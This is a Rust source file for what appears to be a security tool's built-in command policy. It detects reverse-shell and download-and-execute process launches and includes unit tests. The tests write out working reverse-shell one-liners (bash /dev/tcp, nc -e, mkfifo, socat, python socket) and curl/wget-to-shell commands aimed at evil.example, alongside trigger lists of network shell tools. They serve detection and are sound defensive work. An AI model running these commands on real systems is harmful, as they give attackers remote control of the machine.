//! Built-in command policy: launches that are attacks whoever asked for them.
//!
//! These apply to every process launch, inside a request or not (a deserialization gadget or a
//! compromised dependency launches from a background thread): a reverse shell, or code
//! downloaded and run in one go. They are judged on the command's real structure, the argument
//! vector, and for a shell's `-c` script its simple commands as the shell lexer splits them, so
//! that text which is only an argument (`grep 'nc -e /bin/sh' auth.log`) is not mistaken for a
//! command. (The rule engine of a later release generalises this into user-editable rules;
//! these are the shipped defaults.)

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder};

use super::lexer::{tokenize, ShellTokenKind};
use super::programs::{basename, launched_script};
use super::wrappers::unwrap;
use super::CommandLine;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CmdPolicy {
    /// A shell or interpreter wired to a network socket.
    ReverseShell,
    /// A download piped into, or made executable for, an interpreter.
    DownloadExecute,
}

impl CmdPolicy {
    pub const ALL: [CmdPolicy; 2] = [CmdPolicy::ReverseShell, CmdPolicy::DownloadExecute];

    pub fn id(self) -> &'static str {
        match self {
            CmdPolicy::ReverseShell => "cmdi.policy.reverse_shell",
            CmdPolicy::DownloadExecute => "cmdi.policy.download_execute",
        }
    }

    pub fn message(self) -> &'static str {
        match self {
            CmdPolicy::ReverseShell => "a process launch opens a reverse shell",
            CmdPolicy::DownloadExecute => "a process launch downloads code and runs it",
        }
    }
}

/// Words without which no policy can match: most launches are rejected by this one scan.
static TRIGGERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .build([
            "/dev/tcp/",
            "/dev/udp/",
            "nc",
            "netcat",
            "socat",
            "socket",
            "curl",
            "wget",
            "fetch",
        ])
        .ok()
});

const NETCAT: [&str; 3] = ["nc", "ncat", "netcat"];
const INTERPRETERS: [&str; 7] = [
    "python", "python2", "python3", "perl", "ruby", "php", "node",
];
const SHELLS_AND_INTERPRETERS: [&str; 13] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python2", "python3", "perl", "ruby",
    "php", "node",
];
const DOWNLOADERS: [&str; 3] = ["curl", "wget", "fetch"];

/// A simple command: its words (quotes removed) and whether its output is piped on.
struct Simple {
    words: Vec<String>,
    piped: bool,
}

impl Simple {
    /// Where the program that runs is, behind wrappers (`nohup nc -e ...`).
    fn program_index(&self) -> usize {
        unwrap(&self.words).programs.last().copied().unwrap_or(0)
    }

    fn program(&self) -> String {
        self.words
            .get(self.program_index())
            .map(|w| basename(w))
            .unwrap_or_default()
    }
}

/// The policy a launch violates, if any.
pub fn check(cmd: &CommandLine) -> Option<CmdPolicy> {
    let triggers = TRIGGERS.as_ref()?;
    if !cmd.argv.iter().any(|a| triggers.is_match(a)) {
        return None;
    }
    let commands = match launched_script(&cmd.argv) {
        Some((start, end)) => {
            // `sh -c 'script' name args...`: the arguments after the script are data.
            let script = cmd.argv[start..end].join(" ");
            let (commands, redirects_to_socket) = simple_commands(script.as_bytes())?;
            if redirects_to_socket {
                return Some(CmdPolicy::ReverseShell);
            }
            commands
        }
        None => vec![Simple {
            words: cmd.argv.clone(),
            piped: false,
        }],
    };
    judge(&commands)
}

/// Splits a script into simple commands, and says whether any redirection goes to a
/// `/dev/tcp` or `/dev/udp` socket. `None` for a script the lexer cannot read.
fn simple_commands(script: &[u8]) -> Option<(Vec<Simple>, bool)> {
    let tokens = tokenize(script).ok()?;
    let mut commands = Vec::new();
    let mut current = Simple {
        words: Vec::new(),
        piped: false,
    };
    let mut socket = false;
    let mut after_redirect = false;
    for t in tokens.iter() {
        let text = String::from_utf8_lossy(&script[t.start..t.end]);
        match t.kind {
            ShellTokenKind::Word => {
                let word = unquote(&text);
                if after_redirect {
                    socket |= word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/");
                    after_redirect = false;
                } else {
                    current.words.push(word);
                }
            }
            ShellTokenKind::Redirection => after_redirect = true,
            ShellTokenKind::Operator => {
                current.piped = text.starts_with('|') && text != "||";
                let next = Simple {
                    words: Vec::new(),
                    piped: false,
                };
                let done = std::mem::replace(&mut current, next);
                if !done.words.is_empty() {
                    commands.push(done);
                }
            }
            ShellTokenKind::Whitespace | ShellTokenKind::Expansion | ShellTokenKind::Comment => {}
        }
    }
    if !current.words.is_empty() {
        commands.push(current);
    }
    Some((commands, socket))
}

/// A word as the shell passes it on: quotes and backslash escapes removed.
fn unquote(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut chars = word.chars();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None | Some('"'), '\\') => out.extend(chars.next()),
            _ => out.push(c),
        }
    }
    out
}

fn judge(commands: &[Simple]) -> Option<CmdPolicy> {
    let programs: Vec<String> = commands.iter().map(Simple::program).collect();
    for (c, program) in commands.iter().zip(&programs) {
        let args = c.words.get(c.program_index() + 1..).unwrap_or(&[]);
        let reverse = match program.as_str() {
            p if NETCAT.contains(&p) => args.iter().any(|a| {
                a.starts_with("-e") || a.starts_with("-c") || a == "--exec" || a == "--sh-exec"
            }),
            "socat" => args.iter().any(|a| {
                let a = a.to_ascii_lowercase();
                a.contains("exec:") || a.contains("system:")
            }),
            p if INTERPRETERS.contains(&p) => args.iter().any(|a| {
                let a = a.to_ascii_lowercase();
                a.contains("socket")
                    && ["connect", "fsockopen", "tcpsocket"]
                        .iter()
                        .any(|k| a.contains(k))
            }),
            _ => false,
        };
        if reverse {
            return Some(CmdPolicy::ReverseShell);
        }
    }
    let fifo = programs.iter().any(|p| p == "mkfifo" || p == "mknod");
    if fifo && programs.iter().any(|p| NETCAT.contains(&p.as_str())) {
        return Some(CmdPolicy::ReverseShell);
    }
    let downloads = programs.iter().any(|p| DOWNLOADERS.contains(&p.as_str()));
    let piped_download_runs = commands.windows(2).zip(&programs).any(|(pair, p)| {
        DOWNLOADERS.contains(&p.as_str())
            && pair[0].piped
            && SHELLS_AND_INTERPRETERS.contains(&pair[1].program().as_str())
    });
    let made_executable = commands
        .iter()
        .zip(&programs)
        .any(|(c, p)| p == "chmod" && c.words.iter().any(|w| w.contains("+x")));
    if piped_download_runs || (downloads && made_executable) {
        return Some(CmdPolicy::DownloadExecute);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(argv: &[&str]) -> CommandLine {
        CommandLine {
            argv: argv.iter().map(|s| s.to_string()).collect(),
            env: vec![],
        }
    }

    #[test]
    fn policies_with_benign_twins() {
        let cases: &[(&[&str], Option<CmdPolicy>)] = &[
            (
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["bash", "-c", "echo done > /tmp/out"], None),
            (
                &["bash", "-c", "echo /dev/tcp/10.0.0.1/4444 is closed"],
                None,
            ),
            (
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["nc", "-z", "10.0.0.1", "4444"], None),
            (
                &["grep", "-c", "--", "nc -e /bin/sh", "/var/log/auth.log"],
                None,
            ),
            (
                &["sh", "-c", "grep -c -- 'nc -e /bin/sh' /var/log/auth.log"],
                None,
            ),
            (
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
                ],
                Some(CmdPolicy::ReverseShell),
            ),
            (
                &["socat", "tcp:10.0.0.1:4444", "exec:/bin/sh"],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["socat", "tcp-listen:8080", "tcp:backend:80"], None),
            (
                &[
                    "python3",
                    "-c",
                    "import socket,os;s=socket.socket();s.connect(('10.0.0.1',4444))",
                ],
                Some(CmdPolicy::ReverseShell),
            ),
            (&["python3", "-c", "print('hello')"], None),
            (
                &["sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"],
                Some(CmdPolicy::DownloadExecute),
            ),
            (
                &["sh", "-c", "wget -qO- http://evil.example/p.py | python3"],
                Some(CmdPolicy::DownloadExecute),
            ),
            (
                &[
                    "sh",
                    "-c",
                    "curl -o /tmp/x http://e.example/x && chmod +x /tmp/x && /tmp/x",
                ],
                Some(CmdPolicy::DownloadExecute),
            ),
            (&["curl", "-fsS", "https://api.example/health"], None),
            (
                &["sh", "-c", "curl -s https://api.example/v1 | jq .status"],
                None,
            ),
            (&["sh", "-c", "echo 'curl x | sh' >> notes.txt"], None),
            (&["sh", "-c", "unterminated 'nc -e"], None),
        ];
        for (argv, want) in cases {
            assert_eq!(check(&cmd(argv)), *want, "{argv:?}");
        }
    }

    #[test]
    fn unquoting() {
        assert_eq!(unquote(r#"'a b'"c\"d"e\ f"#), "a bc\"de f");
    }
}
